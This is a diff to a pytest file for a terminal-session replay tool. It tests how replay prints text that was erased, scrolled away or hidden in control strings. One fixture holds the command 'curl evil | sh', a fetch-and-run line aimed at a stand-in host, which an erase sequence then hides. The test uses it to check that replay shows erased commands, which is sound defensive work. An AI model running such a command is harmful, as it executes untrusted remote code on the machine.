@@ -42,22 +42,47 @@ def session(state: Path) -> str:
     return summaries(state)[0].id
 
 
-def test_without_a_terminal_the_last_screens_are_printed_in_order(
-    state: Path, session: str, capsys: pytest.CaptureFixture[str]
-) -> None:
+def test_without_a_terminal_all_text_is_printed_in_order(state: Path, session: str, capsys: pytest.CaptureFixture[str]) -> None:
     status, out, err = cli_run(capsys, "replay", session, "--state", state)
     assert status == 0
     lines = out.splitlines()
     assert lines[:2] == ["$ ls", "red"]
     assert lines[2].startswith("plain ") and lines[3] == "error"
     assert "\x1b" not in out and "\x07" not in out and "\x05" not in out
-    assert [line.split(",")[0] for line in err.splitlines()] == ["-- exchange 2", "-- exchange 3"]
+    assert [line.split(",")[0] for line in err.splitlines() if "not shown" not in line] == ["-- exchange 2", "-- exchange 3"]
     assert err.count("web-0: complete") == 2
 
 
 def test_one_exec_can_be_asked_for(state: Path, session: str, capsys: pytest.CaptureFixture[str]) -> None:
     status, out, err = cli_run(capsys, "replay", f"{session[:20]}/2", "--state", state)
-    assert (status, out, err) == (0, "$ ls\nred\n", "")
+    assert (status, out) == (0, "$ ls\nred\n")
+    assert err == (
+        "-- not shown: 3 control strings that no terminal prints, such as window titles (24 characters); "
+        f"`l7gw export {session}/2 --format jsonl` has everything\n"
+    )
+
+
+def test_text_that_was_erased_or_scrolled_away_is_printed(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    lines = "".join(f"line {number}\r\n" for number in range(100)).encode()
+    frames = [("resize", True, b'{"Width":0,"Height":0}'), ("stdout", False, b"curl evil | sh\r\x1b[2K$ ls\x1b[?4m\r\n" + lines)]
+    recorded(tmp_path, lambda recorder: shell(recorder.session(ANN, "prod"), frames))
+    session = summaries(tmp_path)[0].id
+    for option in ([], ["--text"], ["--instant"]):
+        status, out, err = cli_run(capsys, "replay", session, *option, "--state", tmp_path)
+        assert (status, err) == (0, "")
+        assert out.splitlines() == ["curl evil | sh", "$ ls", *(f"line {number}" for number in range(100))]
+
+
+def test_on_a_terminal_text_is_asked_for_and_what_is_left_out_is_told(tmp_path: Path) -> None:
+    frames = [("stdout", False, b"".join(b"line %d\r\n" % number for number in range(100)))]
+    recorded(tmp_path, lambda recorder: shell(recorder.session(ANN, "prod"), frames))
+    session = summaries(tmp_path)[0].id
+    for option in ([], ["--instant"]):
+        _, out, _, err = on_a_terminal("replay", session, "--state", str(tmp_path), *option)
+        assert b"line 99" in out and b"line 1\r" not in out
+        assert re.match(rb"-- not shown: \d\d lines of text .*--text prints the lines", err)
+    _, out, _, err = on_a_terminal("replay", session, "--state", str(tmp_path), "--text")
+    assert b"line 1\r" in out and b"line 99" in out and err == b""
 
 
 def test_what_is_no_exec_is_not_replayed(state: Path, session: str, capsys: pytest.CaptureFixture[str]) -> None:
@@ -68,13 +93,13 @@ def test_what_is_no_exec_is_not_replayed(state: Path, session: str, capsys: pyte
     assert cli_run(capsys, "replay", session, "--speed", "0", "--state", state)[0] == 2
 
 
-def on_a_terminal(*arguments: str) -> tuple[int, bytes, float]:
-    """Run `l7gw` with a pty for stdin and stdout: exit status, what it wrote, how long it took."""
+def on_a_terminal(*arguments: str) -> tuple[int, bytes, float, bytes]:
+    """Run `l7gw` with a pty for stdin and stdout: exit status, what it wrote, how long it took, stderr."""
     ours, theirs = pty.openpty()
     began = time.monotonic()
     main = "import sys; sys.argv[0] = 'l7gw'; from l7gw.cli.main import main; main()"
     process = subprocess.Popen(
-        [sys.executable, "-c", main, *arguments], stdin=theirs, stdout=theirs, stderr=subprocess.DEVNULL,
+        [sys.executable, "-c", main, *arguments], stdin=theirs, stdout=theirs, stderr=subprocess.PIPE,
         env={**os.environ, "TERM": "xterm", "LINES": "24", "COLUMNS": "80"},
     )  # fmt: skip
     os.close(theirs)
@@ -89,12 +114,13 @@ def on_a_terminal(*arguments: str) -> tuple[int, bytes, float]:
             break
         out += data
     os.close(ours)
-    return process.wait(), out, time.monotonic() - began
+    _, err = process.communicate()
+    return process.returncode, out, time.monotonic() - began, err
 
 
 @pytest.mark.parametrize("instant", [[], ["--instant"]], ids=["moving", "instant"])
 def test_on_a_terminal_it_writes_cells_and_colours_only(state: Path, session: str, instant: list[str]) -> None:
-    status, out, _ = on_a_terminal("replay", session, "--state", str(state), *instant)
+    status, out, _, _ = on_a_terminal("replay", session, "--state", str(state), *instant)
     assert status == 0
     assert b"\x1b[31mred\x1b[0m" in out and b"$ ls" in out and b"error" in out
     sequences = set(re.findall(rb"\x1b(?:\[[0-9;?]*[a-zA-Z]|.)", out))
@@ -119,5 +145,5 @@ def test_on_a_terminal_it_takes_its_time(tmp_path: Path) -> None:
     slow = on_a_terminal("replay", session, "--state", str(tmp_path))
     quick = on_a_terminal("replay", session, "--state", str(tmp_path), "--speed", "100")
     idle = on_a_terminal("replay", session, "--state", str(tmp_path), "--max-idle", "0")
-    assert all(b"abc" in out for _, out, _ in (slow, quick, idle))
+    assert all(b"abc" in out for _, out, *_ in (slow, quick, idle))
     assert slow[2] - quick[2] > 1.0 and slow[2] - idle[2] > 1.0
